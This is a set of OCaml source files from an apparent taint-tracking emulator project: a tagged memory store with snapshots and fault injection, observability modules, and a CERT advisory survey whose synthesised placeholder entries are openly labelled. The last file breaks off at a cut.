       let pl = p.plane in
       for i = off to off + chunk - 1 do
         if Bigarray.Array1.unsafe_get pl (i lsr 2) land (1 lsl (32 + (i land 3))) <> 0
         then tainted := true
       done);
    a := addr + chunk;
    remaining := !remaining - chunk
  done;
  !tainted

(* --- fault injection and invariant audit ---

   The injection entry points are the only sanctioned way to corrupt a
   store from outside the CPU: they mutate either the data plane alone
   (leaving taint untouched) or go through the same counter-updating
   paths as ordinary stores, so [tainted] stays exact.  Exactness is
   not cosmetic — the CPU's clean fast path keys off [tainted = 0] and
   silently mis-executes if the counter drifts from the plane. *)

let debug_asserts = ref false

let check_invariants t =
  let recount = ref 0 in
  Hashtbl.iter
    (fun _ p ->
      let pl = p.plane in
      for wi = 0 to page_words - 1 do
        recount := !recount + Array.unsafe_get pop4 (Bigarray.Array1.unsafe_get pl wi lsr 32)
      done)
    t.pages;
  if !recount <> t.tainted then
    failwith
      (Printf.sprintf
         "Tagged_store.check_invariants: live counter says %d tainted bytes, taint plane holds %d"
         t.tainted !recount);
  for slot = 0 to cache_slots - 1 do
    let idx = t.cache_idx.(slot) in
    if idx >= 0 then
      match Hashtbl.find_opt t.pages idx with
      | Some p when p == t.cache_page.(slot) -> ()
      | Some _ ->
        failwith
          (Printf.sprintf
             "Tagged_store.check_invariants: cache slot %d holds a stale record for page %d"
             slot idx)
      | None ->
        failwith
          (Printf.sprintf "Tagged_store.check_invariants: cache slot %d caches unmapped page %d"
             slot idx)
  done

let inject_flip_data t addr ~bit =
  let pl = write_plane t addr in
  let wi = (addr land page_mask) lsr 2 in
  let elt = Bigarray.Array1.unsafe_get pl wi in
  Bigarray.Array1.unsafe_set pl wi (elt lxor (1 lsl (((addr land 3) lsl 3) + (bit land 7))));
  if !debug_asserts then check_invariants t

let inject_set_taint_range t addr len ~tainted =
  for a = addr to addr + len - 1 do
    let pl = write_plane t a in
    let wi = (a land page_mask) lsr 2 in
    let tb = 1 lsl (32 + (a land 3)) in
    let elt = Bigarray.Array1.unsafe_get pl wi in
    if tainted && elt land tb = 0 then begin
      Bigarray.Array1.unsafe_set pl wi (elt lor tb);
      t.tainted <- t.tainted + 1
    end
    else if (not tainted) && elt land tb <> 0 then begin
      Bigarray.Array1.unsafe_set pl wi (elt land lnot tb);
      t.tainted <- t.tainted - 1
    end
  done;
  if !debug_asserts then check_invariants t

let inject_wipe_taint t =
  Hashtbl.iter
    (fun _ p ->
      (* probe before cloning: a page with a clean taint plane needs no
         write, so a COW-shared clean page is left shared *)
      let dirty = ref false in
      let pl = p.plane in
      for wi = 0 to page_words - 1 do
        if Bigarray.Array1.unsafe_get pl wi lsr 32 <> 0 then dirty := true
      done;
      if !dirty then begin
        if p.shared then clone_page p;
        let pl = p.plane in
        for wi = 0 to page_words - 1 do
          let elt = Bigarray.Array1.unsafe_get pl wi in
          if elt lsr 32 <> 0 then Bigarray.Array1.unsafe_set pl wi (elt land 0xFFFFFFFF)
        done
      end)
    t.pages;
  t.tainted <- 0;
  if !debug_asserts then check_invariants t

(* --- snapshots ---

   [snapshot] marks every live page shared and hands out references to
   the same planes; [restore] builds a fresh store whose pages alias
   the snapshot's planes, again shared.  Because every writer clones a
   shared plane first, snapshot planes are immutable after creation —
   which also makes a snapshot safe to restore concurrently from
   multiple domains (each restored store clones privately on write).
   The live-taint count travels with the snapshot so a restored store
   starts with the exact counter its pages imply. *)

let snapshot t =
  let snap_pages =
    Hashtbl.fold
      (fun idx p acc ->
        p.shared <- true;
        (idx, p.plane) :: acc)
      t.pages []
    |> Array.of_list
  in
  { snap_pages; snap_tainted = t.tainted }

let restore snap =
  let t = create () in
  Array.iter
    (fun (idx, plane) -> Hashtbl.replace t.pages idx { plane; shared = true })
    snap.snap_pages;
  t.tainted <- snap.snap_tainted;
  t

(* In-place [restore] for arena recycling: re-point the existing page
   records at the snapshot's planes (shared again, so the next write
   re-clones), drop pages the previous run mapped beyond the snapshot
   (guest sbrk), and invalidate the lookup cache — both index slots
   and page slots, so no stale record pins a retired plane.  In the
   steady state (same or similar footprint) this allocates only the
   page records of genuinely new pages. *)
let reset_from_snapshot t snap =
  let n = Array.length snap.snap_pages in
  for i = 0 to n - 1 do
    let idx, plane = Array.unsafe_get snap.snap_pages i in
    match Hashtbl.find_opt t.pages idx with
    | Some p ->
      p.plane <- plane;
      p.shared <- true
    | None -> Hashtbl.replace t.pages idx { plane; shared = true }
  done;
  if Hashtbl.length t.pages <> n then begin
    let in_snap idx = Array.exists (fun (j, _) -> j = idx) snap.snap_pages in
    let extras =
      Hashtbl.fold (fun idx _ acc -> if in_snap idx then acc else idx :: acc) t.pages []
    in
    List.iter (Hashtbl.remove t.pages) extras
  end;
  Array.fill t.cache_idx 0 cache_slots (-1);
  Array.fill t.cache_page 0 cache_slots dummy_page;
  t.tainted <- snap.snap_tainted
