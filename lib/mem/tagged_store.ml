open Ptaint_taint

type plane =
  (int, Bigarray.int8_unsigned_elt, Bigarray.c_layout) Bigarray.Array1.t

type page = { mutable plane : plane; mutable shared : bool }

type t = { pages : (int, page) Hashtbl.t }

type snapshot = { snap_pages : (int * plane) array }

exception Unmapped of int

let page_bytes = Layout.page_bytes
let page_mask = page_bytes - 1

(* One flat buffer per page: data plane in [0, page_bytes), taint
   plane (one 0/1 byte per data byte) in [page_bytes, 2*page_bytes). *)
let alloc_plane () =
  let p = Bigarray.Array1.create Bigarray.int8_unsigned Bigarray.c_layout (2 * page_bytes) in
  Bigarray.Array1.fill p 0;
  p

let create () = { pages = Hashtbl.create 256 }

let map_page t idx =
  if Hashtbl.mem t.pages idx then false
  else begin
    Hashtbl.replace t.pages idx { plane = alloc_plane (); shared = false };
    true
  end

let is_mapped t idx = Hashtbl.mem t.pages idx

let mapped_pages t = Hashtbl.length t.pages

let page_for t addr =
  match Hashtbl.find_opt t.pages (addr lsr 12) with
  | Some p -> p
  | None -> raise (Unmapped addr)

let () = assert (page_bytes = 1 lsl 12)

(* Reads never copy; the first write to a page shared with a snapshot
   clones its plane so snapshot holders keep the original bytes. *)
let read_plane t addr = (page_for t addr).plane

let write_plane t addr =
  let p = page_for t addr in
  if p.shared then begin
    let fresh = alloc_plane () in
    Bigarray.Array1.blit p.plane fresh;
    p.plane <- fresh;
    p.shared <- false
  end;
  p.plane

(* NB: [Bigarray.Array1.unsafe_get]/[unsafe_set] must be fully
   applied at each call site — aliasing the externals would compile
   every plane access into an out-of-line call instead of a single
   load/store. *)

(* --- byte --- *)

let load_byte t addr =
  let pl = read_plane t addr in
  let off = addr land page_mask in
  (Bigarray.Array1.unsafe_get pl off, Bigarray.Array1.unsafe_get pl (page_bytes + off) <> 0)

let store_byte t addr v ~taint =
  let pl = write_plane t addr in
  let off = addr land page_mask in
  Bigarray.Array1.unsafe_set pl off (v land 0xff);
  Bigarray.Array1.unsafe_set pl (page_bytes + off) (if taint then 1 else 0)

(* --- word (any alignment; the slow path walks bytes across the page
   boundary) --- *)

let load_word t addr =
  let off = addr land page_mask in
  if off <= page_bytes - 4 then begin
    let pl = read_plane t addr in
    let v =
      Bigarray.Array1.unsafe_get pl off
      lor (Bigarray.Array1.unsafe_get pl (off + 1) lsl 8)
      lor (Bigarray.Array1.unsafe_get pl (off + 2) lsl 16)
      lor (Bigarray.Array1.unsafe_get pl (off + 3) lsl 24)
    in
    let toff = page_bytes + off in
    let m =
      Bigarray.Array1.unsafe_get pl toff
      lor (Bigarray.Array1.unsafe_get pl (toff + 1) lsl 1)
      lor (Bigarray.Array1.unsafe_get pl (toff + 2) lsl 2)
      lor (Bigarray.Array1.unsafe_get pl (toff + 3) lsl 3)
    in
    Tword.of_bits ((m lsl 32) lor v)
  end
  else begin
    let v = ref 0 and m = ref 0 in
    for i = 3 downto 0 do
      let b, ta = load_byte t (addr + i) in
      v := (!v lsl 8) lor b;
      if ta then m := !m lor (1 lsl i)
    done;
    Tword.make ~v:!v ~m:!m
  end

let store_word t addr w =
  let off = addr land page_mask in
  let v = Tword.value w and m = Tword.mask w in
  if off <= page_bytes - 4 then begin
    let pl = write_plane t addr in
    Bigarray.Array1.unsafe_set pl off (v land 0xff);
    Bigarray.Array1.unsafe_set pl (off + 1) ((v lsr 8) land 0xff);
    Bigarray.Array1.unsafe_set pl (off + 2) ((v lsr 16) land 0xff);
    Bigarray.Array1.unsafe_set pl (off + 3) ((v lsr 24) land 0xff);
    let toff = page_bytes + off in
    Bigarray.Array1.unsafe_set pl toff (m land 1);
    Bigarray.Array1.unsafe_set pl (toff + 1) ((m lsr 1) land 1);
    Bigarray.Array1.unsafe_set pl (toff + 2) ((m lsr 2) land 1);
    Bigarray.Array1.unsafe_set pl (toff + 3) ((m lsr 3) land 1)
  end
  else
    for i = 0 to 3 do
      store_byte t (addr + i) ((v lsr (8 * i)) land 0xff) ~taint:(m land (1 lsl i) <> 0)
    done

(* --- half-word --- *)

let load_half t addr =
  let off = addr land page_mask in
  if off <= page_bytes - 2 then begin
    let pl = read_plane t addr in
    let v = Bigarray.Array1.unsafe_get pl off lor (Bigarray.Array1.unsafe_get pl (off + 1) lsl 8) in
    let toff = page_bytes + off in
    (v, Bigarray.Array1.unsafe_get pl toff lor (Bigarray.Array1.unsafe_get pl (toff + 1) lsl 1))
  end
  else begin
    let b0, t0 = load_byte t addr in
    let b1, t1 = load_byte t (addr + 1) in
    (b0 lor (b1 lsl 8), (if t0 then 1 else 0) lor if t1 then 2 else 0)
  end

let store_half t addr v ~m =
  let off = addr land page_mask in
  if off <= page_bytes - 2 then begin
    let pl = write_plane t addr in
    Bigarray.Array1.unsafe_set pl off (v land 0xff);
    Bigarray.Array1.unsafe_set pl (off + 1) ((v lsr 8) land 0xff);
    let toff = page_bytes + off in
    Bigarray.Array1.unsafe_set pl toff (m land 1);
    Bigarray.Array1.unsafe_set pl (toff + 1) ((m lsr 1) land 1)
  end
  else begin
    store_byte t addr (v land 0xff) ~taint:(m land 1 <> 0);
    store_byte t (addr + 1) ((v lsr 8) land 0xff) ~taint:(m land 2 <> 0)
  end

(* --- ranges (page-at-a-time over the taint plane) --- *)

let fill_taint t addr len fill =
  let i = ref 0 in
  while !i < len do
    let a = addr + !i in
    let off = a land page_mask in
    let chunk = min (len - !i) (page_bytes - off) in
    let pl = write_plane t a in
    Bigarray.Array1.fill
      (Bigarray.Array1.sub pl (page_bytes + off) chunk)
      fill;
    i := !i + chunk
  done

let taint_range t addr len = if len > 0 then fill_taint t addr len 1
let untaint_range t addr len = if len > 0 then fill_taint t addr len 0

let tainted_in_range t addr len =
  let count = ref 0 and i = ref 0 in
  while !i < len do
    let a = addr + !i in
    let off = a land page_mask in
    let chunk = min (len - !i) (page_bytes - off) in
    let pl = read_plane t a in
    for j = page_bytes + off to page_bytes + off + chunk - 1 do
      count := !count + Bigarray.Array1.unsafe_get pl j
    done;
    i := !i + chunk
  done;
  !count

(* Fault-free taint summary, for hardware models (cache line tag
   summaries) that probe addresses the guest never mapped. *)
let taint_summary t addr len =
  let tainted = ref false and i = ref 0 in
  while (not !tainted) && !i < len do
    let a = addr + !i in
    let off = a land page_mask in
    let chunk = min (len - !i) (page_bytes - off) in
    (match Hashtbl.find_opt t.pages (a lsr 12) with
     | None -> ()
     | Some p ->
       let pl = p.plane in
       for j = page_bytes + off to page_bytes + off + chunk - 1 do
         if Bigarray.Array1.unsafe_get pl j <> 0 then tainted := true
       done);
    i := !i + chunk
  done;
  !tainted

(* --- snapshots ---

   [snapshot] marks every live page shared and hands out references to
   the same planes; [restore] builds a fresh store whose pages alias
   the snapshot's planes, again shared.  Because every writer clones a
   shared plane first, snapshot planes are immutable after creation —
   which also makes a snapshot safe to restore concurrently from
   multiple domains (each restored store clones privately on write). *)

let snapshot t =
  let snap_pages =
    Hashtbl.fold
      (fun idx p acc ->
        p.shared <- true;
        (idx, p.plane) :: acc)
      t.pages []
    |> Array.of_list
  in
  { snap_pages }

let restore snap =
  let t = create () in
  Array.iter
    (fun (idx, plane) -> Hashtbl.replace t.pages idx { plane; shared = true })
    snap.snap_pages;
  t
