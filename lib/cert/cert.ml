type category =
  | Buffer_overflow
  | Format_string
  | Integer_overflow
  | Heap_corruption
  | Globbing
  | Other

type advisory = { id : string; year : int; subject : string; category : category }

let category_name = function
  | Buffer_overflow -> "buffer overflow"
  | Format_string -> "format string"
  | Integer_overflow -> "integer overflow"
  | Heap_corruption -> "heap corruption"
  | Globbing -> "globbing"
  | Other -> "other"

let memory_corruption = function
  | Buffer_overflow | Format_string | Integer_overflow | Heap_corruption | Globbing -> true
  | Other -> false

(* Anchor advisories with their real identifiers; the rest of each
   year's quota is filled with representative synthesised entries so
   that the totals are 107 advisories, 72 (67%) in the five
   memory-corruption categories: 47 buffer overflow, 8 format string,
   6 integer overflow, 8 heap corruption, 3 globbing. *)
let anchors =
  [ { id = "CA-2000-06"; year = 2000; subject = "buffer overflows in Kerberos"; category = Buffer_overflow };
    { id = "CA-2000-13"; year = 2000; subject = "two input validation problems in FTPD (SITE EXEC format string)"; category = Format_string };
    { id = "CA-2000-17"; year = 2000; subject = "input validation problem in rpc.statd (format string)"; category = Format_string };
    { id = "CA-2001-19"; year = 2001; subject = "'Code Red' worm exploiting buffer overflow in IIS indexing service"; category = Buffer_overflow };
    { id = "CA-2001-26"; year = 2001; subject = "Nimda worm"; category = Buffer_overflow };
    { id = "CA-2001-33"; year = 2001; subject = "multiple vulnerabilities in WU-FTPD (heap corruption via ~{ globbing)"; category = Globbing };
    { id = "CA-2002-07"; year = 2002; subject = "double free bug in zlib compression library"; category = Heap_corruption };
    { id = "CA-2002-11"; year = 2002; subject = "heap overflow in Cachefs daemon (cachefsd)"; category = Heap_corruption };
    { id = "CA-2002-17"; year = 2002; subject = "Apache web server chunk handling (integer signedness)"; category = Integer_overflow };
    { id = "CA-2002-25"; year = 2002; subject = "integer overflow in XDR library"; category = Integer_overflow };
    { id = "CA-2002-33"; year = 2002; subject = "heap overflow vulnerability in Solaris X Window font service"; category = Heap_corruption };
    { id = "CA-2003-04"; year = 2003; subject = "MS-SQL server worm ('Slammer') exploiting stack overflow"; category = Buffer_overflow };
    { id = "CA-2003-12"; year = 2003; subject = "buffer overflow in Sendmail address parsing"; category = Buffer_overflow };
    { id = "CA-2003-16"; year = 2003; subject = "buffer overflow in Microsoft RPC (Blaster)"; category = Buffer_overflow };
    { id = "CA-2003-10"; year = 2003; subject = "integer overflow in Sun RPC XDR library"; category = Integer_overflow } ]

(* Category quotas beyond the anchors, spread across years. *)
let quota =
  [ (Buffer_overflow, 41); (Format_string, 6); (Integer_overflow, 3); (Heap_corruption, 5);
    (Globbing, 2); (Other, 35) ]

let subject_for category i =
  match category with
  | Buffer_overflow -> Printf.sprintf "buffer overflow in network service #%d" (i + 1)
  | Format_string -> Printf.sprintf "format string vulnerability in daemon #%d" (i + 1)
  | Integer_overflow -> Printf.sprintf "integer overflow in length handling #%d" (i + 1)
  | Heap_corruption -> Printf.sprintf "heap corruption / double free #%d" (i + 1)
  | Globbing -> Printf.sprintf "LibC glob() expansion vulnerability #%d" (i + 1)
  | Other ->
    let kinds =
      [| "weak default configuration"; "trust or authentication flaw"; "malicious scripting";
         "denial of service"; "race condition"; "directory traversal"; "protocol design flaw";
         "cryptographic weakness" |]
    in
    Printf.sprintf "%s #%d" kinds.(i mod Array.length kinds) (i + 1)

let advisories =
  let filled =
    List.concat_map
      (fun (category, n) ->
        List.init n (fun i ->
            let year = 2000 + ((i * 7) mod 4) in
            { id = Printf.sprintf "CA-%d-R%02d" year (i + 40);
              year;
              subject = subject_for category i;
              category }))
      quota
  in
  anchors @ filled

let breakdown () =
  let count category =
    List.length (List.filter (fun a -> a.category = category) advisories)
  in
  let cats =
    [ Buffer_overflow; Format_string; Integer_overflow; Heap_corruption; Globbing; Other ]
  in
  List.map (fun c -> (c, count c)) cats
  |> List.sort (fun (a, na) (b, nb) ->
         match (memory_corruption a, memory_corruption b) with
         | true, false -> -1
         | false, true -> 1
         | _ -> compare nb na)

let memory_corruption_share () =
  let total = List.length advisories in
  let mem = List.length (List.filter (fun a -> memory_corruption a.category) advisories) in
  (mem, total, 100.0 *. float_of_int mem /. float_of_int total)
