(** CERT advisory survey, 2000–2003 (Figure 1 and section 3).

    The paper analyses the 107 CERT advisories issued from 2000
    through 2003 and finds that five memory-corruption categories —
    buffer overflow, format string, integer overflow, heap corruption,
    and LibC globbing — collectively account for 67% of them.

    The paper's figure gives only the aggregate, so the per-category
    split embedded here is a reconstruction calibrated to the stated
    total (72 of 107 = 67%) and to the authors' companion analyses;
    advisory identifiers for well-known incidents are real, the
    remainder are synthesised placeholders.  The reproduced claim is
    the aggregate share and the category ranking. *)

type category =
  | Buffer_overflow
  | Format_string
  | Integer_overflow
  | Heap_corruption
  | Globbing
  | Other

type advisory = { id : string; year : int; subject : string; category : category }

val advisories : advisory list
(** All 107 advisories. *)

val category_name : category -> string
val memory_corruption : category -> bool
(** True for the five categories the paper's technique addresses. *)

val breakdown : unit -> (category * int) list
(** Counts per category, memory-corruption categories first,
    descending. *)

val memory_corruption_share : unit -> int * int * float
(** (memory-corruption advisories, total, percentage). *)
