type sink = Event.t -> unit

type t = {
  mutable sinks : sink list;
  mutable recorded : Event.t list;  (* newest first *)
  mutable count : int;
  limit : int;
  mutable dropped : int;
}

let create ?(limit = 65_536) () =
  { sinks = []; recorded = []; count = 0; limit = max 1 limit; dropped = 0 }

let on_event t sink = t.sinks <- t.sinks @ [ sink ]

let emit t ev =
  if t.count < t.limit then begin
    t.recorded <- ev :: t.recorded;
    t.count <- t.count + 1
  end
  else t.dropped <- t.dropped + 1;
  match t.sinks with
  | [] -> ()
  | sinks -> List.iter (fun sink -> sink ev) sinks

let events t = List.rev t.recorded
let length t = t.count
let dropped t = t.dropped

let clear t =
  t.recorded <- [];
  t.count <- 0;
  t.dropped <- 0

let taint_sources t =
  List.filter (function Event.Taint_in _ -> true | _ -> false) (events t)
