type t =
  | Taint_in of { cycle : int; source : string; addr : int; len : int; offset : int }
  | Reg_taint of { cycle : int; pc : int; reg : string }
  | Tainted_store of { cycle : int; pc : int; addr : int; len : int; region : string }
  | Alert of { cycle : int; pc : int; kind : string; reg : string; value : int }
  | Fault of { cycle : int; pc : int; desc : string }
  | Syscall of { cycle : int; pc : int; name : string }
  | Restore of { cycle : int }
  | Fault_injected of { cycle : int; model : string; target : string }
  | Job of {
      name : string;
      label : string;
      t0_us : float;
      dur_us : float;
      domain : int;
      outcome : string;
      trace : (int * int) option;
    }

let cycle = function
  | Taint_in { cycle; _ } | Reg_taint { cycle; _ } | Tainted_store { cycle; _ }
  | Alert { cycle; _ } | Fault { cycle; _ } | Syscall { cycle; _ } | Restore { cycle }
  | Fault_injected { cycle; _ } ->
    cycle
  | Job _ -> 0

let kind_name = function
  | Taint_in _ -> "taint-in"
  | Reg_taint _ -> "reg-taint"
  | Tainted_store _ -> "tainted-store"
  | Alert _ -> "alert"
  | Fault _ -> "fault"
  | Syscall _ -> "syscall"
  | Restore _ -> "restore"
  | Fault_injected _ -> "fault-injected"
  | Job _ -> "job"

let to_string = function
  | Taint_in { cycle; source; addr; len; offset } ->
    Printf.sprintf
      "cycle %d: %s delivered %d tainted byte%s to 0x%08x..0x%08x (input bytes %d..%d)"
      cycle source len
      (if len = 1 then "" else "s")
      addr
      (addr + len - 1)
      offset
      (offset + len - 1)
  | Reg_taint { cycle; pc; reg } ->
    Printf.sprintf "cycle %d: first taint of $%s (pc 0x%08x)" cycle reg pc
  | Tainted_store { cycle; pc; addr; len; region } ->
    Printf.sprintf "cycle %d: first tainted store to %s: %d byte%s at 0x%08x (pc 0x%08x)"
      cycle region len
      (if len = 1 then "" else "s")
      addr pc
  | Alert { cycle; pc; kind; reg; value } ->
    Printf.sprintf "cycle %d: ALERT %s at pc 0x%08x ($%s = 0x%08x)" cycle kind pc reg value
  | Fault { cycle; pc; desc } -> Printf.sprintf "cycle %d: fault at pc 0x%08x: %s" cycle pc desc
  | Syscall { cycle; pc; name } ->
    Printf.sprintf "cycle %d: syscall %s (pc 0x%08x)" cycle name pc
  | Restore { cycle } -> Printf.sprintf "cycle %d: booted from snapshot restore" cycle
  | Fault_injected { cycle; model; target } ->
    Printf.sprintf "cycle %d: injected %s fault into %s" cycle model target
  | Job { name; label; t0_us; dur_us; domain; outcome; trace } ->
    Printf.sprintf "job %s [%s] on domain %d: %.0fus..%.0fus, %s%s" name label domain t0_us
      (t0_us +. dur_us) outcome
      (match trace with
       | None -> ""
       | Some (tid, span) -> Printf.sprintf " (trace %016x span %d)" tid span)

let pp ppf e = Format.pp_print_string ppf (to_string e)
