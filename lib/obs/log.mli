(** Structured, leveled logging.

    A logger turns records — timestamp, level, source, message, typed
    key/value fields — into logfmt or JSON lines and hands the bytes
    to a {!sink}.  The hot path is contention-free: each domain owns a
    private buffer (registered on first use) and only the actual sink
    write takes the shared lock; buffers drain on size, on a
    per-domain period, and on {!flush}/{!close}.  A call site below
    the configured level costs one comparison — cheap enough to leave
    compiled into inner loops (gated by the micro/log-off-10k bench
    row). *)

type level = Debug | Info | Warn | Error

val level_name : level -> string
(** ["debug"], ["info"], ["warn"], ["error"]. *)

val level_of_string : string -> (level, string) result
(** Accepts the {!level_name} spellings plus ["warning"],
    case-insensitively. *)

(** {1 Typed fields} *)

type field

val str : string -> string -> field
val int : string -> int -> field
val float : string -> float -> field
val bool : string -> bool -> field

(** {1 Rendering} *)

type format = Logfmt | Json

val format_of_string : string -> (format, string) result

val render :
  format -> ts:float -> level:level -> src:string -> msg:string -> field list -> string
(** One rendered record, without the trailing newline.  Exposed for
    tests; [log] applies the logger's own clock and format. *)

(** {1 Sinks} *)

type sink

val fn_sink : (string -> unit) -> sink
(** Each flushed chunk (one or more newline-terminated lines) is
    passed to the function. *)

val buffer_sink : Buffer.t -> sink
val channel_sink : out_channel -> sink

val file_sink : ?max_bytes:int -> string -> sink
(** Appends to [path].  With [max_bytes], a chunk that would push the
    file past the cap first rotates [path] to [path ^ ".1"]
    (replacing any previous rotation); a single chunk larger than the
    cap is written whole rather than rotating forever. *)

(** {1 Loggers} *)

type t

val create :
  ?level:level ->
  ?format:format ->
  ?clock:(unit -> float) ->
  ?buffer_bytes:int ->
  ?flush_every:float ->
  sink ->
  t
(** Defaults: [level = Info], [format = Logfmt], wall clock,
    [buffer_bytes = 0] (every record flushes immediately — the right
    default for CLIs and tests), [flush_every = 1.0] seconds. *)

val set_level : t -> level -> unit

val set_source_level : t -> string -> level -> unit
(** Override the minimum level for one [~src].  Configure before the
    logger is shared across domains. *)

val enabled : t -> src:string -> level -> bool

val log : t -> level -> src:string -> string -> field list -> unit

val debug : t -> src:string -> string -> field list -> unit
val info : t -> src:string -> string -> field list -> unit
val warn : t -> src:string -> string -> field list -> unit
val error : t -> src:string -> string -> field list -> unit

val flush : t -> unit
(** Drain every domain buffer to the sink. *)

val close : t -> unit
(** {!flush}, then close the sink.  Further records are dropped. *)

val hex_id : int -> string
(** Fixed-width lowercase hex used for trace ids in every artifact
    (logs, JSONL, Chrome spans), so one grep follows a job across
    processes. *)
