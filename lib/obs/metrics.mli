(** Metrics registry: named counters and histograms.

    A registry is cheap single-domain state: look a metric up once
    (get-or-create by name), then bump it allocation-free.  Histograms
    bucket observations by power of two and track count/sum/min/max,
    which is enough to render a latency distribution without keeping
    samples.  {!merge} folds one registry into another, so per-job or
    per-worker registries can be aggregated by the parent. *)

type t

type counter
type histogram

val create : unit -> t

val counter : t -> string -> counter
(** Get or create; raises [Invalid_argument] if [name] is already a
    histogram. *)

val histogram : t -> string -> histogram

val inc : ?by:int -> counter -> unit
val observe : histogram -> float -> unit

(** {1 Reading} *)

type row = {
  name : string;
  kind : string;  (** ["counter"] or ["histogram"] *)
  count : int;  (** counter value, or number of observations *)
  sum : float;
  min : float;
  max : float;
  mean : float;
}

val rows : t -> row list
(** One row per metric, in registration order. *)

val merge : into:t -> t -> unit
(** Add every metric of the source registry into [into], creating
    names as needed. *)
