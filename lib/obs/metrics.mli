(** Metrics registry: counters, gauges and histograms, optionally
    labeled.

    A registry is cheap single-domain state: look a metric up once
    (get-or-create by name + label set), then bump it
    allocation-free.  Histograms bucket observations by power of two
    and track count/sum/min/max, which is enough to render a latency
    distribution without keeping samples.  {!merge} folds one registry
    into another, so per-job or per-worker registries can be
    aggregated by the parent, and {!prometheus} renders the whole
    registry in Prometheus text exposition format 0.0.4 for
    scraping. *)

type t

type labels = (string * string) list
(** Label pairs identify a child within a family: the same metric
    name with different label sets is a family of independent
    children.  Keep label values low-cardinality (outcome names,
    client ids of live connections) — every distinct set is a
    separate child held for the registry's lifetime. *)

type counter
type gauge
type histogram

val create : unit -> t

val counter : t -> ?labels:labels -> string -> counter
(** Get or create; raises [Invalid_argument] if [name] with these
    labels already names a different kind. *)

val gauge : t -> ?labels:labels -> string -> gauge
val histogram : t -> ?labels:labels -> string -> histogram

val inc : ?by:int -> counter -> unit
val set : gauge -> float -> unit
val observe : histogram -> float -> unit

(** {1 Reading} *)

type row = {
  name : string;
  labels : labels;
  kind : string;  (** ["counter"], ["gauge"] or ["histogram"] *)
  count : int;  (** counter value, or number of observations *)
  sum : float;
  min : float;
  max : float;
  mean : float;
}

val rows : t -> row list
(** One row per metric child, in registration order. *)

val merge : into:t -> t -> unit
(** Add every metric of the source registry into [into], creating
    (name, labels) children as needed.  Counters and gauges add;
    histograms merge buckets and extrema. *)

val prometheus : t -> string
(** Prometheus text exposition (format 0.0.4): families grouped under
    one [# TYPE] header in registration order, label values escaped,
    histograms rendered as cumulative [_bucket] series (le boundaries
    [2^i - 1], matching the internal log2 buckets) closed by [+Inf],
    [_sum] and [_count].  Metric and label names are sanitized to
    [[a-zA-Z0-9_:]]. *)
