(** The observability event taxonomy.

    One constructor per thing worth narrating about a run: taint
    entering the guest (which syscall, which address range, which byte
    offsets of the external input), propagation milestones (the first
    time a register becomes tainted, the first tainted store into each
    memory region), detections and faults, syscalls, snapshot-restore
    boots, and campaign job spans.  Events are plain data — ints and
    strings only — so the library sits below the CPU/OS layers and
    every producer can construct them without allocation-heavy
    dependencies. *)

type t =
  | Taint_in of { cycle : int; source : string; addr : int; len : int; offset : int }
      (** [source] (e.g. ["recv(network)"]) delivered [len] tainted
          bytes at guest address [addr]; [offset] is the cumulative
          byte offset of this delivery within all external input. *)
  | Reg_taint of { cycle : int; pc : int; reg : string }
      (** First time register [reg] became tainted in this run. *)
  | Tainted_store of { cycle : int; pc : int; addr : int; len : int; region : string }
      (** First tainted store into [region] ("stack" / "heap/data"). *)
  | Alert of { cycle : int; pc : int; kind : string; reg : string; value : int }
  | Fault of { cycle : int; pc : int; desc : string }
  | Syscall of { cycle : int; pc : int; name : string }
  | Restore of { cycle : int }  (** session booted from a snapshot restore *)
  | Fault_injected of { cycle : int; model : string; target : string }
      (** the fault-injection engine corrupted machine state: fault
          [model] (e.g. ["taint-loss"]) applied to [target] (a
          register slot or address range). *)
  | Job of {
      name : string;
      label : string;
      t0_us : float;  (** start, microseconds from campaign start *)
      dur_us : float;
      domain : int;  (** worker domain id the job ran on *)
      outcome : string;
      trace : (int * int) option;
          (** client-seeded (trace id, span id), when the job carried
              one — rendered into span args so cross-process traces
              correlate *)
    }  (** one campaign job span, emitted by [Campaign.run] *)

val cycle : t -> int
(** Guest instruction count when the event fired ([0] for {!Job}). *)

val kind_name : t -> string
val to_string : t -> string
val pp : Format.formatter -> t -> unit
