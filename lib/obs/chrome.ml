type t = { buf : Buffer.t; mutable count : int }

let create () = { buf = Buffer.create 4096; count = 0 }
let event_count t = t.count

let escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | c when Char.code c < 0x20 -> Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let add_args buf args =
  Buffer.add_string buf ",\"args\":{";
  List.iteri
    (fun i (k, v) ->
      if i > 0 then Buffer.add_char buf ',';
      Buffer.add_string buf (Printf.sprintf "\"%s\":\"%s\"" (escape k) (escape v)))
    args;
  Buffer.add_char buf '}'

let raw_event t ~ph ~name ~cat ~pid ~tid ~ts ?dur ~args () =
  if t.count > 0 then Buffer.add_string t.buf ",\n";
  t.count <- t.count + 1;
  Buffer.add_string t.buf
    (Printf.sprintf "{\"name\":\"%s\",\"cat\":\"%s\",\"ph\":\"%s\",\"ts\":%.3f" (escape name)
       (escape cat) ph ts);
  (match dur with Some d -> Buffer.add_string t.buf (Printf.sprintf ",\"dur\":%.3f" d) | None -> ());
  Buffer.add_string t.buf (Printf.sprintf ",\"pid\":%d,\"tid\":%d" pid tid);
  (* Perfetto scopes instants to the thread track *)
  if ph = "i" then Buffer.add_string t.buf ",\"s\":\"t\"";
  if args <> [] then add_args t.buf args;
  Buffer.add_char t.buf '}'

let complete t ~name ?(cat = "ptaint") ?(pid = 1) ~tid ~ts_us ~dur_us ?(args = []) () =
  raw_event t ~ph:"X" ~name ~cat ~pid ~tid ~ts:ts_us ~dur:dur_us ~args ()

let instant t ~name ?(cat = "ptaint") ?(pid = 1) ~tid ~ts_us ?(args = []) () =
  raw_event t ~ph:"i" ~name ~cat ~pid ~tid ~ts:ts_us ~args ()

(* One guest cycle renders as one microsecond: the timeline stays
   proportional and deterministic, whatever the host clock did.
   [pid] partitions the timeline per process, so client- and
   daemon-side traces of the same jobs merge without colliding. *)
let add_event t ?pid ?(tid = 0) ev =
  let us cycle = float_of_int cycle in
  let instant = instant ?pid in
  let complete = complete ?pid in
  match (ev : Event.t) with
  | Event.Taint_in { cycle; source; addr; len; offset } ->
